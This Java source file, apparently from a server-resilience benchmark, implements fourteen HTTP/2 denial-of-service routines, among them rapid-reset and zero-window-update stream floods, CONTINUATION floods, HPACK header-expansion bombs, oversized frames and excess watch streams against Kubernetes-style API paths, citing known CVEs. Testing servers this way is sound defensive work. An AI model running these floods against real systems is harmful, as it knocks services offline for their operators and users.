package dev.kapell.bench.flood;

import dev.kapell.bench.Dice;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.SequencedMap;

/** Frames of HTTP/2 that cost their sender little: those of known CVEs, and their relatives. */
final class FrameAttacks {
  private static final byte[] NOTHING = new byte[0];
  private static final byte[] GET = Peer.head(false, "/version");
  private static final byte[] POST = Peer.head(true, "/api/v1/namespaces");
  private static final int CANCEL = 8;

  private FrameAttacks() {}

  static Map<String, Attack> all() {
    SequencedMap<String, Attack> all = new LinkedHashMap<>();
    all.put("streams reset by the client", FrameAttacks::reset);
    all.put("streams the server has to reset", FrameAttacks::provoke);
    all.put("headers without end", FrameAttacks::continuation);
    all.put("empty continuations", FrameAttacks::emptyContinuation);
    all.put("settings", (target, dice) -> unread(target, dice, Peer.SETTINGS, NOTHING));
    all.put("tables that change their size", FrameAttacks::tables);
    all.put("pings", (target, dice) -> unread(target, dice, Peer.PING, new byte[8]));
    all.put("empty data", FrameAttacks::emptyData);
    all.put("priorities", FrameAttacks::priorities);
    all.put("windows beyond their size", FrameAttacks::windows);
    all.put("a few bytes that mean many headers", FrameAttacks::expansion);
    all.put("frames larger than agreed", FrameAttacks::large);
    all.put("frames of chance", FrameAttacks::chance);
    all.put("more streams than agreed", FrameAttacks::streams);
    return all;
  }

  private static byte[] many(int count, byte[] frame) {
    ByteArrayOutputStream all = new ByteArrayOutputStream(count * frame.length);
    for (int i = 0; i < count; i++) {
      all.writeBytes(frame);
    }
    return all.toByteArray();
  }

  private static Attack.End reset(Target target, Dice dice) throws IOException {
    ByteArrayOutputStream all = new ByteArrayOutputStream();
    int streams = 2_500 + dice.below(10_000);
    for (int i = 0; i < streams; i++) {
      all.writeBytes(Peer.frame(Peer.HEADERS, Peer.WHOLE, 2 * i + 1, GET));
      all.writeBytes(Peer.frame(Peer.RESET, 0, 2 * i + 1, Peer.number(CANCEL)));
    }
    try (Peer peer = Peer.http2(target, dice)) {
      return peer.press(all.toByteArray(), 1);
    }
  }

  /** As in CVE-2025-8671: a window that grows by nothing is an error of its stream. */
  private static Attack.End provoke(Target target, Dice dice) throws IOException {
    ByteArrayOutputStream all = new ByteArrayOutputStream();
    int streams = 2_500 + dice.below(10_000);
    for (int i = 0; i < streams; i++) {
      all.writeBytes(Peer.frame(Peer.HEADERS, Peer.END_HEADERS, 2 * i + 1, POST));
      all.writeBytes(Peer.frame(Peer.WINDOW_UPDATE, 0, 2 * i + 1, Peer.number(0)));
    }
    try (Peer peer = Peer.http2(target, dice)) {
      return peer.press(all.toByteArray(), 1);
    }
  }

  private static Attack.End continuation(Target target, Dice dice) throws IOException {
    byte[] more = new byte[66];
    Arrays.fill(more, (byte) 'v');
    more[0] = 0x40; // a new header: name of 1 letter, value of 62
    more[1] = 1;
    more[3] = 62;
    try (Peer peer = Peer.http2(target, dice)) {
      peer.send(Peer.frame(Peer.HEADERS, 0, 1, GET));
      return peer.press(
          many(1 + dice.below(200), Peer.frame(Peer.CONTINUATION, 0, 1, more)), 20_000);
    }
  }

  private static Attack.End emptyContinuation(Target target, Dice dice) throws IOException {
    try (Peer peer = Peer.http2(target, dice)) {
      peer.send(Peer.frame(Peer.HEADERS, 0, 1, GET));
      return peer.press(
          many(1 + dice.below(1000), Peer.frame(Peer.CONTINUATION, 0, 1, NOTHING)), 20_000);
    }
  }

  /** Frames that want answers, which nobody reads. */
  private static Attack.End unread(Target target, Dice dice, int type, byte[] payload)
      throws IOException {
    try (Peer peer = Peer.http2(target, dice)) {
      return peer.press(many(200 + dice.below(2000), Peer.frame(type, 0, 0, payload)), 20_000);
    }
  }

  private static Attack.End tables(Target target, Dice dice) throws IOException {
    ByteArrayOutputStream all = new ByteArrayOutputStream();
    for (int i = 0; i < 1000; i++) {
      byte[] setting = new byte[6];
      setting[1] = 1; // HEADER_TABLE_SIZE
      setting[4] = (byte) dice.below(256);
      all.writeBytes(Peer.frame(Peer.SETTINGS, 0, 0, setting));
    }
    try (Peer peer = Peer.http2(target, dice)) {
      return peer.press(all.toByteArray(), 20_000);
    }
  }

  private static Attack.End emptyData(Target target, Dice dice) throws IOException {
    try (Peer peer = Peer.http2(target, dice)) {
      peer.send(Peer.frame(Peer.HEADERS, Peer.END_HEADERS, 1, POST));
      return peer.press(many(1 + dice.below(500), Peer.frame(Peer.DATA, 0, 1, NOTHING)), 20_000);
    }
  }

  private static Attack.End priorities(Target target, Dice dice) throws IOException {
    ByteArrayOutputStream all = new ByteArrayOutputStream();
    for (int i = 0; i < 20_000; i++) {
      byte[] weight = new byte[5];
      weight[2] = (byte) dice.below(128);
      weight[4] = (byte) dice.below(256);
      all.writeBytes(Peer.frame(Peer.PRIORITY, 0, 2 * i + 1, weight));
    }
    try (Peer peer = Peer.http2(target, dice)) {
      peer.send(all.toByteArray(), Peer.frame(Peer.HEADERS, Peer.WHOLE, 99_999, GET));
      return peer.outcome(99_999);
    }
  }

  private static Attack.End windows(Target target, Dice dice) throws IOException {
    try (Peer peer = Peer.http2(target, dice)) {
      return peer.press(
          Peer.frame(Peer.WINDOW_UPDATE, 0, 0, Peer.number(Integer.MAX_VALUE)),
          2 + dice.below(100));
    }
  }

  private static Attack.End expansion(Target target, Dice dice) throws IOException {
    byte[] value = new byte[3900];
    Arrays.fill(value, (byte) 'v');
    ByteArrayOutputStream block = new ByteArrayOutputStream();
    block.writeBytes(GET);
    block.writeBytes(new byte[] {0x40, 1, 'n', 0x7f, (byte) 0xbd, 0x1d});
    block.writeBytes(value);
    for (int i = dice.below(10_000) + 20; i > 0; i--) {
      block.write(0xbe); // the same header again
    }
    try (Peer peer = Peer.http2(target, dice)) {
      peer.send(Peer.frame(Peer.HEADERS, Peer.WHOLE, 1, block.toByteArray()));
      return peer.outcome(1);
    }
  }

  private static Attack.End large(Target target, Dice dice) throws IOException {
    try (Peer peer = Peer.http2(target, dice)) {
      int type = dice.below(10);
      return peer.press(Peer.frame(type, 0, 1, new byte[(16 << 10) + 1 + dice.below(1 << 20)]), 1);
    }
  }

  private static Attack.End chance(Target target, Dice dice) throws IOException {
    try (Peer peer = Peer.http2(target, dice)) {
      for (int i = dice.below(50); i >= 0; i--) {
        byte[] payload = dice.bytes(dice.below(200));
        peer.send(Peer.frame(dice.below(14), dice.below(256), dice.below(8), payload));
      }
      return peer.press(Peer.frame(Peer.DATA, 0, 0, NOTHING), 1);
    }
  }

  /** As many watches as a connection may have, and some more. */
  private static Attack.End streams(Target target, Dice dice) throws IOException {
    byte[] watch = Peer.head(false, "/api/v1/configmaps?watch=1");
    ByteArrayOutputStream all = new ByteArrayOutputStream();
    int last = 2 * (1000 + dice.below(500)) + 1;
    for (int stream = 1; stream <= last; stream += 2) {
      all.writeBytes(Peer.frame(Peer.HEADERS, Peer.WHOLE, stream, watch));
    }
    try (Peer peer = Peer.http2(target.admin(), target.port(), NOTHING)) {
      peer.send(all.toByteArray());
      return peer.outcome(last);
    }
  }
}
